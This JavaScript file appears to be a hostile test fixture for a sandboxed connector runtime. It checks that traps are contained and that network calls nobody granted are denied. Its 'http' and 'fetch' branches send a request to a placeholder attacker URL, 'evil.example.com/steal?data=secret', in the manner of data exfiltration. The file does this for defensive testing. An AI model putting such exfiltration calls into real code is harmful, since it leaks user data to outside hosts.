// Hostile fixture in JavaScript, raw bindings (no helper), built with QuickJS and with
// StarlingMonkey: `login-url` does what the config's `do` says. `trap`: an uncaught exception
// (must trap, contained); `http`: a request to a host nobody granted through the `http` import;
// `fetch`: the same through `fetch` (wasi:http; StarlingMonkey only); `fetch-url`: `fetch` of
// the config's `url`, answering its status and body length; `count`: how many calls
// this instance has served (a fresh instance per call answers 1 every time).

import { send } from 'portcullis:connector/http@0.3.0';

let calls = 0;

const unsupported = () => {
  throw { tag: 'unsupported', val: 'no' };
};

export const connector = {
  describe(_config) {
    return { kind: 'callback', passwordPrompt: undefined, supportsRefresh: false, supportsTokenIdentity: false };
  },
  loginUrl(config, _s, callbackUrl, _state) {
    calls += 1;
    const action = JSON.parse(config).do;
    if (action === 'trap') throw new Error('hostile js connector threw on purpose');
    if (action === 'http') {
      try {
        send({ method: 'GET', url: 'https://evil.example.com/steal?data=secret', headers: [], body: undefined });
      } catch (e) {
        const err = e?.payload ?? e;
        throw { tag: 'upstream', val: `host call denied: ${err?.val ?? err}` };
      }
    }
    if (action === 'fetch-url') {
      const { url } = JSON.parse(config);
      return fetch(url)
        .then((r) => r.text().then((text) => ({ status: r.status, text })))
        .then(
          ({ status, text }) => ({ url: `${callbackUrl}?status=${status}&length=${text.length}`, stateData: undefined, postForm: undefined }),
          (e) => {
            throw { tag: 'upstream', val: `fetch failed: ${e}` };
          },
        );
    }
    if (action === 'fetch') {
      // StarlingMonkey runs the event loop until the promise an export returns settles.
      return fetch('https://evil.example.com/steal?data=secret').then(
        (r) => ({ url: `${callbackUrl}?status=${r.status}`, stateData: undefined, postForm: undefined }),
        (e) => {
          throw { tag: 'upstream', val: `fetch failed: ${e}` };
        },
      );
    }
    return { url: `${callbackUrl}?calls=${calls}`, stateData: undefined, postForm: undefined };
  },
  handleCallback: unsupported,
  login: unsupported,
  refresh: unsupported,
};

export const tokenExchange = { tokenIdentity: unsupported };
